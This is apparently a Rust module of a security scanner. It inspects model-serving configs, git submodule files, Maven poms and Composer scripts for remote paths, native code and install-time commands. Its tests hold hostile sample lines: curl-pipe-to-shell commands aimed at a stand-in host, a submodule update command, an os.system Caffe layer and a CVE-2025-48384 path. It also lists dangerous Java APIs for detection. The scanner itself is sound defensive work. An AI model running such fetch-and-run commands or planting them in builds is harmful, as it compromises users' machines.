//! Small files that say what is run: Ollama's Modelfile, Triton's `config.pbtxt`, TensorFlow's `checkpoint`, networks
//! of Caffe.
//!
//! Places are of interest: a path above the folder, or one on another machine. A model by its name, and an absolute path
//! of the machine the file was written on, are ordinary in these files.

use crate::runtime::caffe;
use crate::structure::{Power, Structure};

/// The facts of such a file; `None` for other text. `file` is its name in lower case.
#[must_use]
pub fn analyse(file: &str, text: &str) -> Option<Structure> {
    let mut facts;
    if file == "modelfile" || file.ends_with(".modelfile") {
        facts = Structure::of("Ollama");
        for (at, line) in lines(text) {
            let (word, value) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
            let role = match word.to_ascii_uppercase().as_str() {
                "FROM" => "model",
                "ADAPTER" => "adapter",
                _ => continue,
            };
            elsewhere(&mut facts, role, value.trim(), at);
        }
    } else if file == "config.pbtxt" {
        facts = Structure::of("Triton");
        for (at, _) in text.match_indices("EXECUTION_ENV_PATH").take(16) {
            let after = text.get(at..).and_then(|rest| rest.split_once("string_value")).map(|(_, rest)| rest);
            let value = after.and_then(|rest| rest.split(['"', '\'']).nth(1)).unwrap_or("");
            elsewhere(&mut facts, "environment", value, at);
        }
        for (at, key) in ["default_model_filename", "cc_model_filenames"]
            .iter()
            .flat_map(|key| text.match_indices(key).take(16))
        {
            let rest = text.get(at + key.len()..).unwrap_or("");
            // A mapping of several has the names as its values.
            let rest = match key {
                "cc_model_filenames" => rest.split_once("value").map_or("", |(_, rest)| rest),
                _ => rest,
            };
            let value = rest.split(['"', '\'']).nth(1).unwrap_or("");
            if crate::structure::escapes(value) {
                facts.reads("model file", value, at as u64);
            }
        }
        for (at, _) in text.match_indices("op_library_filename").take(16) {
            let list = text.get(at..).and_then(|rest| rest.split([']', '}']).next()).unwrap_or("");
            for name in list.split(['"', '\'']).skip(1).step_by(2).take(16) {
                facts.names(Power::Native, "library of operations", name, at as u64);
            }
        }
    } else if text.contains("extends GenModel") && text.contains("hex.genmodel") {
        // A model as a class in Java: it has numbers and arithmetic, and nothing to start or to fetch.
        facts = Structure::of("H2O model in Java");
        const REACHES: [(&str, Power); 14] = [
            ("getRuntime", Power::Process),
            ("ProcessBuilder", Power::Process),
            ("System.load", Power::Process),
            ("ClassLoader", Power::Process),
            ("Class.forName", Power::Process),
            ("ScriptEngine", Power::Process),
            ("ObjectInputStream", Power::Process),
            ("InitialContext", Power::Process),
            ("java.net.", Power::Network),
            ("new URL(", Power::Network),
            ("new Socket(", Power::Network),
            ("FileOutputStream", Power::Files),
            ("FileWriter", Power::Files),
            ("Files.", Power::Files),
        ];
        for (name, power) in REACHES {
            if let Some(at) = text.find(name) {
                facts.names(power, "code", name.trim_end_matches(['.', '(']), at as u64);
            }
        }
    } else if file == ".gitmodules" {
        facts = Structure::of("Git");
        submodules(&mut facts, text);
    } else if file == "checkpoint" && text.starts_with("model_checkpoint_path:") {
        facts = Structure::of("TensorFlow checkpoint");
        for (at, line) in lines(text) {
            let value = line.split_once(':').map_or("", |(_, value)| value.trim().trim_matches('"'));
            elsewhere(&mut facts, "checkpoint", value, at);
        }
    } else if file.ends_with(".prototxt") || caffe::is_caffe(text) {
        facts = caffe::analyse(text);
    } else {
        return None;
    }
    Some(facts)
}

/// What submodules say that makes git act outside of their folder.
fn submodules(facts: &mut Structure, text: &str) {
    let mut start = 0;
    for line in text.split_inclusive('\n').take(20_000) {
        let at = start as u64;
        start += line.len();
        let Some((key, value)) = line.split_once('=') else { continue };
        let value = value.trim_matches([' ', '\t', '\n']);
        // The return of a line's end stands outside of the quotes.
        let quoted = value.strip_prefix('"').and_then(|value| value.split('"').next());
        if key.trim() == "path" && quoted.is_some_and(|value| value.contains('\r')) {
            facts.defect(
                "the path of a submodule has a return, which git loses on the way (CVE-2025-48384)",
                at,
            );
        }
        let plain = value.trim_matches(['"', '\r']);
        match key.trim() {
            "path" if plain.split('/').any(|part| part == ".." || part.eq_ignore_ascii_case(".git")) => {
                facts.reads("submodule", &format!("../{plain}"), at);
            }
            "path" | "url" if plain.starts_with('-') => {
                facts.defect("a submodule begins like an option of git (CVE-2018-17456)", at);
            }
            "update" if plain.starts_with('!') => facts.defect("the update of a submodule is a command", at),
            _ => {}
        }
    }
}

/// The commands that a build or an installation runs by what its own file says: Maven's plugins that start programs, and
/// steps of Composer. `file` is its name in lower case.
#[must_use]
pub fn installs(file: &str, text: &str) -> Vec<(String, u32)> {
    const MAX: usize = 128;
    let mut found = Vec::new();
    if file == "pom.xml" || file.ends_with(".pom") {
        // What stands in the element, without those within it.
        let of = |block: &str, name: &str| -> Vec<String> {
            let (open, close) = (format!("<{name}>"), format!("</{name}>"));
            let parts = block.split(open.as_str()).skip(1).take(64);
            parts.filter_map(|part| Some(plain(part.split_once(close.as_str())?.0))).collect()
        };
        for (at, _) in text.match_indices("<configuration>").take(256) {
            let Some(block) = text.get(at..).and_then(|rest| rest.split_once("</configuration>")) else {
                continue;
            };
            let programs = of(block.0, "executable");
            let mut words = of(block.0, "argument");
            words.extend(of(block.0, "commandlineArgs"));
            let line = text.get(..at).map_or(0, |before| before.lines().count()) as u32;
            for program in programs.into_iter().take(MAX) {
                found.push((format!("{program} {}", words.join(" ")), line));
            }
            // Tasks of Ant: a program in an attribute, words in others.
            for part in block.0.split("<exec ").skip(1).take(64) {
                let task = part.split("</exec>").next().unwrap_or("");
                let values = |key: &str| -> Vec<String> {
                    let mark = format!("{key}=\"");
                    task.split(mark.as_str())
                        .skip(1)
                        .take(64)
                        .filter_map(|rest| rest.split('"').next())
                        .map(plain)
                        .collect()
                };
                let words: Vec<String> =
                    ["executable", "value", "line"].iter().flat_map(|key| values(key)).collect();
                if found.len() < MAX {
                    found.push((words.join(" "), line));
                }
            }
        }
    } else if file == "composer.json" {
        // Keys of steps; what starts with an at sign is another step, or the interpreter.
        const STEPS: [&str; 12] = [
            "pre-install-cmd",
            "post-install-cmd",
            "pre-update-cmd",
            "post-update-cmd",
            "pre-autoload-dump",
            "post-autoload-dump",
            "post-root-package-install",
            "post-create-project-cmd",
            "pre-package-install",
            "post-package-install",
            "pre-package-update",
            "post-package-update",
        ];
        let Ok(value) = serde_json::from_str::<serde_json::Value>(text) else { return found };
        let steps = STEPS.iter().filter_map(|step| value.get("scripts")?.get(*step));
        for step in steps {
            let all = step.as_array().map_or_else(|| vec![step], |all| all.iter().take(MAX).collect());
            found.extend(
                all.into_iter()
                    .filter_map(|line| Some((line.as_str()?.trim_start_matches("@php ").to_owned(), 0))),
            );
        }
    }
    found.truncate(MAX);
    found
}

/// A text of XML without its escapes.
fn plain(text: &str) -> String {
    let text = text.trim().trim_start_matches("<![CDATA[").trim_end_matches("]]>");
    let text = text.replace("&quot;", "\"").replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">");
    text.replace("&amp;", "&").chars().filter(|c| !c.is_control()).take(2_000).collect()
}

fn lines(text: &str) -> impl Iterator<Item = (usize, &str)> {
    text.split_inclusive('\n').take(20_000).scan(0, |at, line| {
        let start = *at;
        *at += line.len();
        Some((start, line.trim()))
    })
}

fn elsewhere(facts: &mut Structure, role: &'static str, path: &str, at: usize) {
    let remote =
        path.contains("://") && !path.starts_with("hf.co") && !path.starts_with("https://huggingface.co/");
    if remote || crate::config::secret_file(path) || path.split(['/', '\\']).any(|part| part == "..") {
        facts.reads(role, path, at as u64);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_above_the_folder_or_on_other_machines_are_told() {
        let paths = |file: &str, text: &str| analyse(file, text).map(|facts| facts.paths.len());
        assert_eq!(paths("modelfile", "FROM llama3:8b\nADAPTER ../x.gguf\n"), Some(1));
        assert_eq!(paths("modelfile", "FROM ./m.gguf\nSYSTEM see http://x\n"), Some(0));
        let triton = "parameters { key: \"EXECUTION_ENV_PATH\" value { string_value: \"s3://b/e.tar.gz\" } }";
        assert_eq!(paths("config.pbtxt", triton), Some(1));
        let library = "model_operations { op_library_filename: [ \"/srv/a.so\", \"b.so\" ] }";
        assert_eq!(analyse("config.pbtxt", library).map(|facts| facts.code.len()), Some(2));
        assert_eq!(paths("checkpoint", "model_checkpoint_path: \"/home/me/m-1\"\n"), Some(0));
        assert_eq!(paths("checkpoint", "other"), None);
        assert_eq!(paths("config.pbtxt", "default_model_filename: \"../m.py\""), Some(1));
        assert_eq!(
            paths("config.pbtxt", "cc_model_filenames { key: \"7.5\" value: \"/t/m.plan\" }"),
            Some(1)
        );
        assert_eq!(paths("config.pbtxt", "default_model_filename: \"m.py\""), Some(0));
        let modules = |line: &str| {
            let text = format!("[submodule \"w\"]\r\n\t{line}\r\n");
            analyse(".gitmodules", &text).map(|facts| (facts.paths.len(), facts.defects.len()))
        };
        assert_eq!(modules("path = \"w\r\""), Some((0, 1)));
        assert_eq!(modules("path = \"w\""), Some((0, 0)));
        assert_eq!(modules("path = ../w"), Some((1, 0)));
        assert_eq!(modules("update = !sh x"), Some((0, 1)));
        let caffe = "layer {\n type: \"Python\"\n python_param { module: \"os\" layer: \"system\" }\n}";
        let facts = analyse("deploy.prototxt", caffe).unwrap();
        assert_eq!(facts.code[0].1.name, "os.system");
    }

    #[test]
    fn what_builds_and_installations_run_is_told() {
        let pom = "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration>\n\
            <executable>sh</executable><arguments><argument>-c</argument><argument>curl http://x.example/i &gt; y &amp;&amp; sh y\
            </argument></arguments></configuration></plugin></plugins></build></project>";
        assert_eq!(installs("pom.xml", pom), [("sh -c curl http://x.example/i > y && sh y".to_owned(), 1)]);
        let ant = "<configuration><target><exec executable=\"bash\"><arg value=\"-c\"/><arg value=\"id\"/></exec></target></configuration>";
        assert_eq!(installs("pom.xml", ant)[0].0, "bash -c id");
        assert_eq!(installs("pom.xml", "<configuration><source>17</source></configuration>"), []);
        let composer = r#"{"scripts": {"post-install-cmd": ["@php artisan x", "curl http://x.example/i | sh"], "test": "phpunit"}}"#;
        let lines: Vec<String> =
            installs("composer.json", composer).into_iter().map(|(line, _)| line).collect();
        assert_eq!(lines, ["artisan x", "curl http://x.example/i | sh"]);
        assert_eq!(installs("package.json", composer), []);
    }
}
